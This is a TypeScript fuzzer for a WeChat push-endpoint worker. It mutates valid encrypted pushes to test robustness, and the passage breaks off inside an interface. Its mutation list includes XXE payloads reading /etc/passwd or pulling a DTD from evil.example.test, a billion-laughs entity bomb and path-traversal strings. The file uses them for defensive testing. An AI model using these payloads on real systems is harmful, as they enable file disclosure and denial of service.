/**
 * A seeded fuzzer for the worker's WeChat push endpoints (`POST /wechat/component/events` and
 * `POST /wechat/authorizers/:appid/callback`), shared by `tests/fuzz_test.ts` (a few hundred
 * cases in CI) and `tools/fuzz.ts` (`deno task fuzz`, ≥ 10,000 cases).
 *
 * Every case starts from a VALID push in the simulator's wire format (the plaintext XML
 * encrypted with the component's key, wrapped in the `<xml><AppId|ToUserName>…<Encrypt>…`
 * envelope, signed in the query) — `component_verify_ticket`, `authorized`, `updateauthorized`,
 * `unauthorized`, authorizer text and event messages and the release test's three pushes — and
 * applies zero to three mutations: bit flips in the ciphertext and in `msg_signature`,
 * truncated and oversized bodies, broken and hostile XML (DOCTYPE, entity bombs, external
 * entities, deep nesting, huge CDATA) outside and inside the ciphertext, crafted plaintext
 * frames (bad length, bad padding, invalid UTF-8), foreign appids and keys, wrong content types,
 * methods and paths, stale, duplicated, empty or missing query parameters.
 *
 * IVs, nonces, timestamps and every choice come from the seeded PRNG (case `i` of seed `s` has
 * its own generator), so a seed and a case index reproduce the exact bytes of a request.
 *
 * Invariants per case: never a 5xx, never a hang (per-request deadline), KV (every key, value,
 * metadata and expiration) unchanged for every rejected (4xx) request — also a moment later —
 * and an unmutated push answered 200.
 *
 * @module
 */

import { MessageCrypto } from "../src/crypto/mod.ts";
import { buildXml } from "../src/xml/mod.ts";
import { decodeBase64, encodeBase64 } from "../src/_bytes.ts";
import { type Harness, ORIGIN, SETTINGS, startWorker } from "./_worker_harness.ts";

// ---------------------------------------------------------------------------------- PRNG

/** sfc32, seeded through splitmix32: small, fast and reproducible. */
export class Prng {
  #a: number;
  #b: number;
  #c: number;
  #d: number;

  /** A generator for `seed` (and an optional stream number, e.g. the case index). */
  constructor(seed: number, stream = 0) {
    let s = (seed ^ Math.imul(stream + 1, 0x9e3779b9)) >>> 0;
    const split = () => {
      s = (s + 0x9e3779b9) >>> 0;
      let z = s;
      z = Math.imul(z ^ (z >>> 16), 0x85ebca6b) >>> 0;
      z = Math.imul(z ^ (z >>> 13), 0xc2b2ae35) >>> 0;
      return (z ^ (z >>> 16)) >>> 0;
    };
    this.#a = split();
    this.#b = split();
    this.#c = split();
    this.#d = split();
    for (let i = 0; i < 12; i++) this.u32();
  }

  /** A uniform 32-bit unsigned integer. */
  u32(): number {
    const t = (((this.#a + this.#b) >>> 0) + this.#d) >>> 0;
    this.#d = (this.#d + 1) >>> 0;
    this.#a = this.#b ^ (this.#b >>> 9);
    this.#b = (this.#c + (this.#c << 3)) >>> 0;
    this.#c = ((this.#c << 21) | (this.#c >>> 11)) >>> 0;
    this.#c = (this.#c + t) >>> 0;
    return t;
  }

  /** An integer in `[0, n)`. */
  int(n: number): number {
    return Math.floor((this.u32() / 0x1_0000_0000) * n);
  }

  /** An integer in `[lo, hi]`. */
  range(lo: number, hi: number): number {
    return lo + this.int(hi - lo + 1);
  }

  /** `true` with probability `p`. */
  chance(p: number): boolean {
    return this.u32() / 0x1_0000_0000 < p;
  }

  /** One element of `items`. */
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }

  /** `n` random bytes. */
  bytes(n: number): Uint8Array<ArrayBuffer> {
    const out = new Uint8Array(n);
    for (let i = 0; i < n; i++) out[i] = this.u32() & 0xff;
    return out;
  }

  /** `n` lowercase hex characters. */
  hex(n: number): string {
    let s = "";
    for (let i = 0; i < n; i++) s += "0123456789abcdef"[this.int(16)];
    return s;
  }

  /** `n` characters of `alphabet`. */
  text(n: number, alphabet: string): string {
    const chars = [...alphabet];
    let s = "";
    for (let i = 0; i < n; i++) s += chars[this.int(chars.length)];
    return s;
  }
}

// ---------------------------------------------------------------------------------- cases

/** A request the fuzzer sends. */
export interface FuzzRequest {
  url: string;
  method: string;
  headers: [string, string][];
  /** `null`: no body. */
  body: Uint8Array<ArrayBuffer> | null;
  /** Send the body as a stream (no Content-Length). */
  stream: boolean;
}

/** One generated case. */
export interface FuzzCase {
  /** Index within its seed. */
  index: number;
  /** The valid push it started from. */
  base: string;
  /** Mutations applied, in order (empty: a valid push, which must be answered 200). */
  mutations: string[];
  request: FuzzRequest;
}

/** The keys and appids the generator encrypts with. */
export interface FuzzKeys {
  /** Ours: the component's token, EncodingAESKey and appid. */
  ours: MessageCrypto;
  /** Same key and token, another appid (WeChat's frame carries the appid). */
  foreignAppId: MessageCrypto;
  /** Another EncodingAESKey. */
  foreignKey: MessageCrypto;
  /** Another token (the signature cannot match). */
  foreignToken: MessageCrypto;
  /** Raw AES-256-CBC (IV = first 16 key bytes) with our key, for hand-made frames. */
  rawCbc: (blocks: Uint8Array<ArrayBuffer>) => Promise<Uint8Array<ArrayBuffer>>;
}

const FOREIGN_APPID = "wx0000000000000bad";
const FOREIGN_AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG";
const RELEASE_OA = { appId: "wx570bc396a51b8ff8", userName: "gh_3c884a361561" };
const COMPONENT_PATH = "/wechat/component/events";
const PUSH_LIMIT = 64 * 1024;

/** Creates the keys of {@linkcode FuzzKeys} from the harness settings. */
export async function fuzzKeys(): Promise<FuzzKeys> {
  const common = { token: SETTINGS.COMPONENT_TOKEN, encodingAesKey: SETTINGS.COMPONENT_AES_KEY };
  // WeChat's 43-character keys have stray low bits in the last character: decode leniently.
  const aesKey = Uint8Array.from(atob(SETTINGS.COMPONENT_AES_KEY + "="), (c) => c.charCodeAt(0));
  const key = await crypto.subtle.importKey("raw", aesKey, "AES-CBC", false, ["encrypt"]);
  return {
    ours: await MessageCrypto.create({ ...common, appId: SETTINGS.COMPONENT_APPID }),
    foreignAppId: await MessageCrypto.create({ ...common, appId: FOREIGN_APPID }),
    foreignKey: await MessageCrypto.create({
      ...common,
      encodingAesKey: FOREIGN_AES_KEY,
      appId: SETTINGS.COMPONENT_APPID,
    }),
    foreignToken: await MessageCrypto.create({
      ...common,
      token: "someoneelsestoken",
      appId: SETTINGS.COMPONENT_APPID,
    }),
    async rawCbc(blocks) {
      // Web Crypto always pads: encrypting whole blocks adds one block, which is dropped.
      const out = new Uint8Array(
        await crypto.subtle.encrypt({ name: "AES-CBC", iv: aesKey.slice(0, 16) }, key, blocks),
      );
      return out.slice(0, blocks.length);
    },
  };
}

/** What the generator may address: the authorizers that exist in the worker under test. */
export interface FuzzTargets {
  /** Authorizer appids (with their gh_ user names) the fuzzer's messages go to. */
  authorizers: { appId: string; userName: string }[];
}

type Fields = Record<string, string | number>;

interface Draft {
  base: string;
  path: string;
  root: "AppId" | "ToUserName";
  rootValue: string;
  fields: Fields;
  /** Plaintext XML, set from `fields` unless a mutation replaced it. */
  plaintext?: string;
  /** Hand-made plaintext frame bytes (replaces normal encryption). */
  frame?: Uint8Array<ArrayBuffer>;
  crypto: keyof Omit<FuzzKeys, "rawCbc">;
  encrypt?: string;
  timestamp: string;
  nonce: string;
  openid?: string;
  query: [string, string][];
  body?: string;
  bytes?: Uint8Array<ArrayBuffer>;
  headers: [string, string][];
  method: string;
  stream: boolean;
  /** Re-sign after the ciphertext changed. */
  resign: boolean;
}

const FUZZ_APPIDS = ["wxf0zz000000000001", "wxf0zz000000000002", "wxf0zz000000000003"];

function bases(rng: Prng, targets: FuzzTargets, now: number): Draft {
  const timestamp = String(now - rng.int(300));
  const nonce = String(100_000_000 + rng.int(4_000_000_000));
  const common = {
    timestamp,
    nonce,
    query: [],
    headers: [["content-type", "text/xml"], ["user-agent", "Mozilla/4.0"]] as [string, string][],
    method: "POST",
    stream: false,
    resign: false,
    crypto: "ours" as const,
  };
  const component = (base: string, fields: Fields): Draft => ({
    ...common,
    base,
    path: COMPONENT_PATH,
    root: "AppId",
    rootValue: SETTINGS.COMPONENT_APPID,
    fields: { AppId: SETTINGS.COMPONENT_APPID, CreateTime: Number(timestamp), ...fields },
  });
  const account = rng.pick(targets.authorizers);
  const openid = "o" +
    rng.text(27, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-");
  const message = (base: string, to: { appId: string; userName: string }, fields: Fields) => ({
    ...common,
    base,
    path: `/wechat/authorizers/${to.appId}/callback`,
    root: "ToUserName" as const,
    rootValue: to.userName,
    openid,
    fields: {
      ToUserName: to.userName,
      FromUserName: openid,
      CreateTime: Number(timestamp),
      ...fields,
    },
  });
  const code = () => `queryauthcode@@@fuzz${rng.hex(24)}`;
  const msgId = () => String(BigInt(rng.u32() & 0x7fffffff) * 4294967296n + BigInt(rng.u32()));
  switch (rng.int(10)) {
    case 0:
    case 1:
      return component("component_verify_ticket", {
        InfoType: "component_verify_ticket",
        ComponentVerifyTicket: `ticket@@@fuzz${rng.hex(40)}`,
      });
    case 2:
    case 3: {
      const infoType = rng.chance(0.7) ? "authorized" : "updateauthorized";
      return component(infoType, {
        InfoType: infoType,
        AuthorizerAppid: rng.pick(FUZZ_APPIDS),
        AuthorizationCode: code(),
        AuthorizationCodeExpiredTime: String(Number(timestamp) + 3600),
        PreAuthCode: `preauthcode@@@fuzz${rng.hex(24)}`,
      });
    }
    case 4:
      return component("unauthorized", {
        InfoType: "unauthorized",
        AuthorizerAppid: rng.pick(FUZZ_APPIDS),
      });
    case 5:
      return message("text", account, {
        MsgType: "text",
        Content: rng.pick(["hi", "你好，世界", "<&>\"'", rng.text(rng.range(1, 200), "ab 中文🙂")]),
        MsgId: msgId(),
      });
    case 6:
      return message("event", account, {
        MsgType: "event",
        Event: rng.pick(["subscribe", "unsubscribe", "CLICK", "VIEW"]),
        EventKey: rng.hex(8),
      });
    case 7:
      return message("release_text", RELEASE_OA, {
        MsgType: "text",
        Content: "TESTCOMPONENT_MSG_TYPE_TEXT",
        MsgId: msgId(),
      });
    case 8:
      return message("release_query_auth_code", RELEASE_OA, {
        MsgType: "text",
        Content: `QUERY_AUTH_CODE:${code()}`,
        MsgId: msgId(),
      });
    default:
      return message("release_event", RELEASE_OA, {
        MsgType: "event",
        Event: "LOCATION",
        Latitude: "23.137466",
        Longitude: "113.352425",
        Precision: "119.385040",
      });
  }
}

// ------------------------------------------------------------------------- mutations

type Stage = "plain" | "frame" | "cipher" | "envelope" | "query" | "body" | "request";
interface Mutation {
  name: string;
  stage: Stage;
  apply(d: Draft, rng: Prng): void;
}

const WRAP_FIELD = (d: Draft, rng: Prng, inner: (value: string) => string) => {
  const keys = Object.keys(d.fields);
  const k = rng.pick(keys);
  d.plaintext = xmlOf(d).replace(
    new RegExp(`<${k}>[\\s\\S]*?</${k}>`),
    `<${k}>${inner(String(d.fields[k]))}</${k}>`,
  );
};

function xmlOf(d: Draft): string {
  if (d.plaintext !== undefined) return d.plaintext;
  try {
    return buildXml(d.fields, { newlines: true });
  } catch {
    // A value XML cannot hold (a control character): written as it is, like a broken sender.
    const body = Object.entries(d.fields).map(([k, v]) =>
      typeof v === "number" ? `<${k}>${v}</${k}>` : `<${k}><![CDATA[${v}]]></${k}>`
    );
    return `<xml>\n${body.join("\n")}\n</xml>`;
  }
}

const ENTITY_BOMB = '<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa">' +
  Array.from({ length: 9 }, (_, i) => {
    const prev = i === 0 ? "a" : `a${i}`;
    return `<!ENTITY a${i + 1} "${`&${prev};`.repeat(10)}">`;
  }).join("") + "]>";
const XXE = '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const XXE_PARAM = '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example.test/x.dtd"> %p;]>';

function invalidUtf8(rng: Prng): number[] {
  return rng.pick([
    [0xff],
    [0xfe, 0xff],
    [0xc0, 0x80],
    [0x80],
    [0xed, 0xa0, 0x80],
    [0xf4, 0x90, 0x80, 0x80],
    [0xe4, 0xb8],
    [0xf8, 0x88, 0x80, 0x80, 0x80],
  ]);
}

function splice(
  bytes: Uint8Array,
  at: number,
  insert: number[],
  remove = 0,
): Uint8Array<ArrayBuffer> {
  const out = new Uint8Array(bytes.length - remove + insert.length);
  out.set(bytes.subarray(0, at), 0);
  out.set(insert, at);
  out.set(bytes.subarray(at + remove), at + insert.length);
  return out;
}

const utf8 = (s: string) => new TextEncoder().encode(s);

function flipChar(s: string, rng: Prng, alphabetOnly = false): string {
  if (s.length === 0) return "x";
  const i = rng.int(s.length);
  let c = s.charCodeAt(i) ^ (1 << rng.int(alphabetOnly ? 5 : 7));
  if (c === 0) c = 0x41;
  return s.slice(0, i) + String.fromCharCode(c) + s.slice(i + 1);
}

/** Bytes of a (possibly already mutated) ciphertext; a string that is not base64 counts as its text. */
function tryBase64(s: string): Uint8Array {
  try {
    return decodeBase64(s);
  } catch {
    return utf8(s);
  }
}

function setQuery(d: Draft, name: string, value: string | null, mode: "set" | "append" = "set") {
  if (mode === "set") d.query = d.query.filter(([k]) => k !== name);
  if (value !== null) d.query.push([name, value]);
}

const QUERY_NAMES = ["timestamp", "nonce", "msg_signature", "encrypt_type", "signature"];

/** Every mutation, by stage. */
const MUTATIONS: Mutation[] = [
  // --- the plaintext XML inside the ciphertext (validly encrypted and signed)
  {
    name: "plain.doctype",
    stage: "plain",
    apply: (d) => (d.plaintext = "<!DOCTYPE xml>" + xmlOf(d)),
  },
  {
    name: "plain.entity_bomb",
    stage: "plain",
    apply: (d, rng) => {
      WRAP_FIELD(d, rng, () => "&a9;");
      d.plaintext = ENTITY_BOMB + d.plaintext;
    },
  },
  {
    name: "plain.xxe",
    stage: "plain",
    apply: (d, rng) => {
      WRAP_FIELD(d, rng, () => "&xxe;");
      d.plaintext = rng.pick([XXE, XXE_PARAM]) + d.plaintext;
    },
  },
  {
    name: "plain.undefined_entity",
    stage: "plain",
    apply: (d, rng) => WRAP_FIELD(d, rng, (v) => `${v}&nbsp;&#0;&#xD800;`),
  },
  {
    name: "plain.deep_nesting",
    stage: "plain",
    apply: (d, rng) => {
      const depth = rng.pick([50, 500, 5000, 9000]);
      WRAP_FIELD(d, rng, (v) => "<a>".repeat(depth) + v + "</a>".repeat(depth));
    },
  },
  {
    name: "plain.deep_nesting_unclosed",
    stage: "plain",
    apply: (
      d,
      rng,
    ) => (d.plaintext = xmlOf(d).replace("</xml>", "<a>".repeat(rng.range(100, 9000)))),
  },
  {
    name: "plain.huge_cdata",
    stage: "plain",
    apply: (d, rng) => {
      const n = rng.pick([4096, 20_000, 44_000]);
      WRAP_FIELD(d, rng, () => `<![CDATA[${rng.pick(["x", "中", "]]", "<"]).repeat(n)}]]>`);
    },
  },
  {
    name: "plain.unclosed_cdata",
    stage: "plain",
    apply: (d, rng) => WRAP_FIELD(d, rng, (v) => `<![CDATA[${v}`),
  },
  {
    name: "plain.truncated",
    stage: "plain",
    apply: (d, rng) => {
      const x = xmlOf(d);
      d.plaintext = x.slice(0, rng.int(x.length));
    },
  },
  {
    name: "plain.mismatched_tag",
    stage: "plain",
    apply: (d) => (d.plaintext = xmlOf(d).replace(/<\/(\w+)>/, "</$1x>")),
  },
  {
    name: "plain.char_flip",
    stage: "plain",
    apply: (d, rng) => (d.plaintext = flipChar(xmlOf(d), rng)),
  },
  {
    name: "plain.duplicate_field",
    stage: "plain",
    apply: (d, rng) => {
      const k = rng.pick(Object.keys(d.fields));
      d.plaintext = xmlOf(d).replace("</xml>", `<${k}><![CDATA[dup${rng.hex(4)}]]></${k}></xml>`);
    },
  },
  {
    name: "plain.missing_field",
    stage: "plain",
    apply: (d, rng) => {
      const k = rng.pick(Object.keys(d.fields));
      delete d.fields[k];
      d.plaintext = undefined;
    },
  },
  {
    name: "plain.field_value",
    stage: "plain",
    apply: (d, rng) => {
      const k = rng.pick(Object.keys(d.fields));
      d.fields[k] = rng.pick([
        "",
        " ",
        "-1",
        "99999999999999999999999",
        "wx",
        "\u0001\u0002",
        "x".repeat(rng.range(1, 3000)),
        "../../etc",
        "<b>",
        "$APPID$",
      ]);
      d.plaintext = undefined;
    },
  },
  {
    name: "plain.foreign_appid_field",
    stage: "plain",
    apply: (d) => {
      if ("AppId" in d.fields) d.fields.AppId = FOREIGN_APPID;
      else d.fields.ToUserName = "gh_000000000bad";
      d.plaintext = undefined;
    },
  },
  {
    name: "plain.not_xml",
    stage: "plain",
    apply: (d, rng) => (d.plaintext = rng.pick([
      "",
      "success",
      JSON.stringify(d.fields),
      "<xml/>",
      "<xml></xml>",
      "<?xml version='1.0'?><xml><!-- c --></xml>",
      "<html><body>x</body></html>",
    ])),
  },
  {
    name: "plain.processing_instruction",
    stage: "plain",
    apply: (d) => (d.plaintext = '<?xml-stylesheet href="http://evil.example.test/x"?>' + xmlOf(d)),
  },
  {
    name: "plain.attributes",
    stage: "plain",
    apply: (d) => (d.plaintext = xmlOf(d).replace("<xml>", '<xml xmlns:x="urn:x" x:y="z">')),
  },
  // --- the plaintext frame (random | length | msg | appid | padding), hand-made
  {
    name: "frame.bad_length",
    stage: "frame",
    apply: (
      d,
      rng,
    ) => (d.frame = frameOf(d, rng, { length: rng.pick([0, 1, 0x7fffffff, 0xffffffff, -1]) })),
  },
  {
    name: "frame.bad_padding",
    stage: "frame",
    apply: (d, rng) => (d.frame = frameOf(d, rng, { pad: rng.pick([0, 33, 255, -2]) })),
  },
  {
    name: "frame.no_appid",
    stage: "frame",
    apply: (d, rng) => (d.frame = frameOf(d, rng, { appId: "" })),
  },
  {
    name: "frame.foreign_appid",
    stage: "frame",
    apply: (d, rng) => (d.frame = frameOf(d, rng, {
      appId: rng.pick([
        FOREIGN_APPID,
        SETTINGS.COMPONENT_APPID + "x",
        SETTINGS.COMPONENT_APPID.slice(1),
      ]),
    })),
  },
  {
    name: "frame.invalid_utf8",
    stage: "frame",
    apply: (d, rng) => (d.frame = frameOf(d, rng, { invalidUtf8: true })),
  },
  {
    name: "crypto.foreign_appid",
    stage: "frame",
    apply: (d) => (d.crypto = "foreignAppId"),
  },
  {
    name: "crypto.foreign_key",
    stage: "frame",
    apply: (d) => (d.crypto = "foreignKey"),
  },
  {
    name: "crypto.foreign_token",
    stage: "frame",
    apply: (d) => (d.crypto = "foreignToken"),
  },
  // --- the ciphertext (base64)
  {
    name: "cipher.bit_flip",
    stage: "cipher",
    apply: (d, rng) => {
      const bytes = tryBase64(d.encrypt!);
      if (bytes.length) bytes[rng.int(bytes.length)] ^= 1 << rng.int(8);
      d.encrypt = encodeBase64(bytes);
      d.resign = rng.chance(0.5);
    },
  },
  {
    name: "cipher.char_flip",
    stage: "cipher",
    apply: (d, rng) => {
      d.encrypt = flipChar(d.encrypt!, rng);
      d.resign = rng.chance(0.5);
    },
  },
  {
    name: "cipher.truncated",
    stage: "cipher",
    apply: (d, rng) => {
      d.encrypt = d.encrypt!.slice(0, rng.int(d.encrypt!.length));
      d.resign = rng.chance(0.5);
    },
  },
  {
    name: "cipher.block_cut",
    stage: "cipher",
    apply: (d, rng) => {
      const bytes = tryBase64(d.encrypt!);
      d.encrypt = encodeBase64(
        bytes.subarray(0, Math.max(0, bytes.length - rng.pick([1, 16, 32, 48]))),
      );
      d.resign = true;
    },
  },
  {
    name: "cipher.not_base64",
    stage: "cipher",
    apply: (d, rng) => {
      d.encrypt = rng.pick([
        d.encrypt!.replace(/=+$/, ""),
        d.encrypt! + "=",
        d.encrypt!.replaceAll("+", "-").replaceAll("/", "_"),
        " " + d.encrypt!,
        d.encrypt!.slice(0, 40) + "\n" + d.encrypt!.slice(40),
        "",
        "!!!!",
      ]);
      d.resign = rng.chance(0.7);
    },
  },
  // --- the envelope XML (outside the signature)
  {
    name: "envelope.doctype",
    stage: "envelope",
    apply: (
      d,
      rng,
    ) => (d.body = rng.pick(["<!DOCTYPE xml>", ENTITY_BOMB, XXE, XXE_PARAM]) + d.body!),
  },
  {
    name: "envelope.entity_in_encrypt",
    stage: "envelope",
    apply: (
      d,
    ) => (d.body = ENTITY_BOMB +
      d.body!.replace(/<Encrypt>[\s\S]*<\/Encrypt>/, "<Encrypt>&a9;</Encrypt>")),
  },
  {
    name: "envelope.deep_nesting",
    stage: "envelope",
    apply: (d, rng) => {
      const depth = rng.pick([100, 1000, 10_000]);
      d.body = rng.chance(0.5)
        ? "<a>".repeat(depth) + d.body! + "</a>".repeat(depth)
        : d.body!.replace("</xml>", "<a>".repeat(depth) + "</a>".repeat(depth) + "</xml>");
    },
  },
  {
    name: "envelope.huge_cdata",
    stage: "envelope",
    apply: (d, rng) => {
      const n = rng.pick([10_000, 60_000, 70_000]);
      d.body = d.body!.replace("</xml>", `<Junk><![CDATA[${"x".repeat(n)}]]></Junk></xml>`);
    },
  },
  {
    name: "envelope.no_encrypt",
    stage: "envelope",
    apply: (d) => (d.body = d.body!.replace(/<Encrypt>[\s\S]*<\/Encrypt>/, "")),
  },
  {
    name: "envelope.two_encrypts",
    stage: "envelope",
    apply: (d, rng) => (d.body = d.body!.replace(
      "</xml>",
      `<Encrypt><![CDATA[${
        rng.chance(0.5) ? d.encrypt : encodeBase64(rng.bytes(64))
      }]]></Encrypt></xml>`,
    )),
  },
  {
    name: "envelope.plain_text_encrypt",
    stage: "envelope",
    apply: (d) => (d.body = d.body!.replace(/<!\[CDATA\[([^\]]*)\]\]><\/Encrypt>/, "$1</Encrypt>")),
  },
  {
    name: "envelope.broken",
    stage: "envelope",
    apply: (d, rng) => (d.body = rng.pick([
      d.body!.replace("</xml>", ""),
      d.body!.replace("]]></Encrypt>", "</Encrypt>"),
      d.body!.replace("<xml>", "<xml"),
      d.body!.replace("<Encrypt>", "<Encrypt x='1>"),
      d.body!.replaceAll("xml", "XML"),
      "<?xml version='1.0' encoding='GBK'?>" + d.body!,
    ])),
  },
  {
    name: "envelope.foreign_root",
    stage: "envelope",
    apply: (d, rng) => (d.body = d.body!.replace(
      /<(AppId|ToUserName)>[\s\S]*?<\/\1>/,
      rng.pick(["", `<$1><![CDATA[${FOREIGN_APPID}]]></$1>`, "<$1></$1>", "<$1><x/></$1>"]),
    )),
  },
  // --- the query string
  {
    name: "query.signature_bit_flip",
    stage: "query",
    apply: (d, rng) => {
      const sig = d.query.find(([k]) => k === "msg_signature");
      if (!sig) d.query.push(["msg_signature", rng.hex(40)]);
      else sig[1] = rng.chance(0.3) ? sig[1].toUpperCase() : flipChar(sig[1], rng, true);
    },
  },
  {
    name: "query.missing",
    stage: "query",
    apply: (d, rng) => setQuery(d, rng.pick(QUERY_NAMES), null),
  },
  {
    name: "query.duplicated",
    stage: "query",
    apply: (d, rng) => {
      const name = rng.pick(QUERY_NAMES);
      const value = rng.pick(["0", "", rng.hex(40), String(Number(d.timestamp) + 1)]);
      if (rng.chance(0.5)) setQuery(d, name, value, "append");
      else d.query.unshift([name, value]);
    },
  },
  {
    name: "query.empty",
    stage: "query",
    apply: (d, rng) => setQuery(d, rng.pick(QUERY_NAMES), ""),
  },
  {
    name: "query.stale_timestamp",
    stage: "query",
    apply: (d, rng) => {
      // Old (or far-future) timestamp; re-signed half of the time (a stale but genuine push).
      d.timestamp = String(
        rng.pick([0, 1, 1_000_000_000, Number(d.timestamp) - 86_400 * 30, 99_999_999_999]),
      );
      d.resign = rng.chance(0.5);
    },
  },
  {
    name: "query.bad_value",
    stage: "query",
    apply: (d, rng) =>
      setQuery(
        d,
        rng.pick(QUERY_NAMES),
        rng.pick([
          "-1",
          "1e9",
          "abc",
          " 1",
          "中文",
          "%",
          "x".repeat(rng.range(65, 5000)),
          "\u0000",
        ]),
      ),
  },
  {
    name: "query.encrypt_type",
    stage: "query",
    apply: (d, rng) => setQuery(d, "encrypt_type", rng.pick(["raw", "AES", "", "none"])),
  },
  // --- the raw body bytes
  {
    name: "body.truncated",
    stage: "body",
    apply: (d, rng) => (d.bytes = d.bytes!.slice(0, rng.int(d.bytes!.length))),
  },
  {
    name: "body.oversized",
    stage: "body",
    apply: (d, rng) => {
      const size = rng.pick([PUSH_LIMIT + 1, PUSH_LIMIT + 4096, 256 * 1024, 1024 * 1024]);
      const out = new Uint8Array(size);
      out.fill(0x20);
      out.set(d.bytes!.subarray(0, Math.min(d.bytes!.length, size)), 0);
      d.bytes = out;
    },
  },
  {
    name: "body.invalid_utf8",
    stage: "body",
    apply: (d, rng) => (d.bytes = splice(d.bytes!, rng.int(d.bytes!.length + 1), invalidUtf8(rng))),
  },
  {
    name: "body.byte_flip",
    stage: "body",
    apply: (d, rng) => {
      const b = d.bytes!.slice();
      if (b.length) b[rng.int(b.length)] ^= 1 << rng.int(8);
      d.bytes = b;
    },
  },
  {
    name: "body.replaced",
    stage: "body",
    apply: (d, rng) => (d.bytes = rng.pick([
      new Uint8Array(0),
      utf8("success"),
      utf8("{}"),
      utf8('{"Encrypt":"x"}'),
      utf8("Encrypt=abc&msg_signature=def"),
      rng.bytes(rng.range(1, 2048)),
      utf8("\uFEFF" + new TextDecoder().decode(d.bytes!)),
      new Uint8Array(utf8("<xml/>").length * 2),
    ])),
  },
  // --- the request itself
  {
    name: "request.content_type",
    stage: "request",
    apply: (d, rng) => {
      d.headers = d.headers.filter(([k]) => k !== "content-type");
      const ct = rng.pick([
        null,
        "application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xyz",
        "text/plain; charset=gbk",
        "application/xml; charset=utf-16",
        "application/octet-stream",
        "text/xml; charset=ISO-8859-1",
      ]);
      if (ct) d.headers.push(["content-type", ct]);
    },
  },
  {
    name: "request.stream",
    stage: "request",
    apply: (d) => (d.stream = true),
  },
  {
    name: "request.method",
    stage: "request",
    apply: (d, rng) => (d.method = rng.pick(["GET", "PUT", "PATCH", "DELETE", "OPTIONS"])),
  },
  {
    name: "request.path",
    stage: "request",
    apply: (d, rng) => {
      const other = d.path === COMPONENT_PATH
        ? `/wechat/authorizers/${rng.pick(FUZZ_APPIDS)}/callback`
        : COMPONENT_PATH;
      d.path = rng.pick([
        other,
        d.path + "/",
        d.path.replace("/wechat/", "/wechat//"),
        "/wechat/authorizers/$APPID$/callback",
        "/wechat/authorizers/wx123/callback",
        "/wechat/authorizers/..%2F..%2Fapi/callback",
        "/wechat/authorizers/WXF0ZZ000000000001x/callback",
        d.path.toUpperCase(),
      ]);
    },
  },
];

/** The names of every mutation the generator applies. */
export const MUTATION_NAMES: readonly string[] = MUTATIONS.map((m) => m.name);

const FIELD_EDITS = new Set([
  "plain.missing_field",
  "plain.field_value",
  "plain.foreign_appid_field",
]);

const STAGE_ORDER: Stage[] = ["plain", "frame", "cipher", "envelope", "query", "body", "request"];

function frameOf(
  d: Draft,
  rng: Prng,
  opts: { length?: number; pad?: number; appId?: string; invalidUtf8?: boolean },
): Uint8Array<ArrayBuffer> {
  let msg: Uint8Array = utf8(xmlOf(d));
  if (opts.invalidUtf8) msg = splice(msg, rng.int(msg.length + 1), invalidUtf8(rng));
  const appId = utf8(opts.appId ?? SETTINGS.COMPONENT_APPID);
  const n = 20 + msg.length + appId.length;
  let pad = 32 - (n % 32);
  const data = new Uint8Array(n + pad);
  data.set(rng.bytes(16), 0);
  new DataView(data.buffer).setUint32(16, (opts.length ?? msg.length) >>> 0, false);
  data.set(msg, 20);
  data.set(appId, 20 + msg.length);
  data.fill(pad, n);
  if (opts.pad !== undefined) {
    if (opts.pad === -2) data[data.length - 2] ^= 0x01; // inconsistent padding bytes
    else {
      pad = opts.pad;
      data[data.length - 1] = pad;
    }
  }
  return data;
}

/** Builds case `index` of `seed` (deterministic: the same arguments give the same bytes). */
export async function generateCase(
  seed: number,
  index: number,
  keys: FuzzKeys,
  targets: FuzzTargets,
  nowSeconds: number,
): Promise<FuzzCase> {
  const rng = new Prng(seed, index);
  const d = bases(rng, targets, nowSeconds);
  // About one case in eight is the valid push itself.
  const count = rng.chance(0.125) ? 0 : rng.pick([1, 1, 1, 2, 2, 3]);
  const chosen: Mutation[] = [];
  for (let i = 0; i < count; i++) {
    const m = rng.pick(MUTATIONS);
    if (!chosen.includes(m)) chosen.push(m);
  }
  // By stage; within the plaintext, the field edits (which rebuild it) before the rest.
  const rank = (m: Mutation) =>
    STAGE_ORDER.indexOf(m.stage) * 2 + (FIELD_EDITS.has(m.name) ? 0 : 1);
  chosen.sort((a, b) => rank(a) - rank(b));
  const stage = (s: Stage) => {
    for (const m of chosen) if (m.stage === s) m.apply(d, rng);
  };

  stage("plain");
  stage("frame");
  const mc = keys[d.crypto];
  if (d.frame) d.encrypt = encodeBase64(await keys.rawCbc(d.frame));
  else d.encrypt = await mc.encrypt(xmlOf(d), rng.bytes(16));
  const sign = () => mc.signature(d.timestamp, d.nonce, d.encrypt!);
  let signature = sign();
  stage("cipher");
  if (d.resign) signature = sign();
  d.body = `<xml>\n<${d.root}><![CDATA[${d.rootValue}]]></${d.root}>\n` +
    `<Encrypt><![CDATA[${d.encrypt}]]></Encrypt>\n</xml>`;
  stage("envelope");
  d.query = [
    ["signature", mc.urlSignature(d.timestamp, d.nonce)],
    ["timestamp", d.timestamp],
    ["nonce", d.nonce],
    ...(d.openid ? [["openid", d.openid] as [string, string]] : []),
    ["encrypt_type", "aes"],
    ["msg_signature", signature],
  ];
  const beforeQuery = d.timestamp;
  d.resign = false;
  stage("query");
  if (d.timestamp !== beforeQuery) {
    setQuery(d, "timestamp", d.timestamp);
    if (d.resign) setQuery(d, "msg_signature", sign());
  }
  d.bytes = utf8(d.body);
  stage("body");
  stage("request");

  const url = new URL(d.path, ORIGIN);
  url.search = new URLSearchParams(d.query).toString();
  const hasBody = d.method !== "GET" && d.method !== "HEAD";
  return {
    index,
    base: d.base,
    mutations: chosen.map((m) => m.name),
    request: {
      url: url.toString(),
      method: d.method,
      headers: d.headers,
      body: hasBody ? d.bytes : null,
      stream: hasBody && d.stream,
    },
  };
}

// ---------------------------------------------------------------------------------- runner

/** A broken invariant. */
export interface Violation {
  seed: number;
  index: number;
  base: string;
  mutations: string[];
  kind: "5xx" | "hang" | "kv_changed" | "valid_refused" | "transport" | "secret_in_log";
  detail: string;
}

/** Counts of a run. */
export interface FuzzReport {
  seed: number;
